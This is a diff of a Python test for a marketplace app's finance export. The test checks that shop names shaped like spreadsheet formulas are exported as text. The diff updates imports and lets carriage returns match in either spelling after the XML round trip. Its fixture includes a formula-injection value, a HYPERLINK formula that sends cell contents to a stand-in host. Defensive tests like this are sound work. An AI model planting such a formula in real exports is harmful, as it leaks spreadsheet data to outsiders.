@@ -19,13 +19,13 @@ from sqlalchemy import select
 from sqlalchemy.orm import Session
 from starlette.testclient import TestClient
 
-from analytics.demo_history import seed_history
 from marketplace.calendar import fiscal_year, tokyo_date
 from marketplace.db import utcnow
 from marketplace.models import Shop
 from marketplace.vocab import StaffRole
-from tests.portal_plugin.analytics_helpers import log_in
-from tests.portal_plugin.test_finance_routes import CONFIG
+from portal_plugin.demo.history import seed_history
+from tests.support.analytics_world import CONFIG
+from tests.support.staff_http import log_in
 
 HOSTILE_NAMES = (
     '=HYPERLINK("http://x.example/?leak="&A1,"click")',
@@ -66,8 +66,11 @@ def test_shop_names_that_look_like_formulas_are_text_in_csv_and_xlsx(
     workbook = load_workbook(
         io.BytesIO(client.get(f"/finance/export/all.xlsx?fiscal_year={year}").content)
     )
-    # XML turns a carriage return into a line feed when the workbook is read back.
-    in_xml = {name.replace("\r", "\n"): name for name in HOSTILE_NAMES}
+    # Whether a carriage return survives the round trip through XML depends on the parser
+    # openpyxl reads with (the standard library normalises it to a line feed, lxml keeps it):
+    # both spellings are the same name.
+    in_xml = {name: name for name in HOSTILE_NAMES}
+    in_xml.update({name.replace("\r", "\n"): name for name in HOSTILE_NAMES})
     seen = set()
     for sheet in workbook:
         for row in sheet.iter_rows():
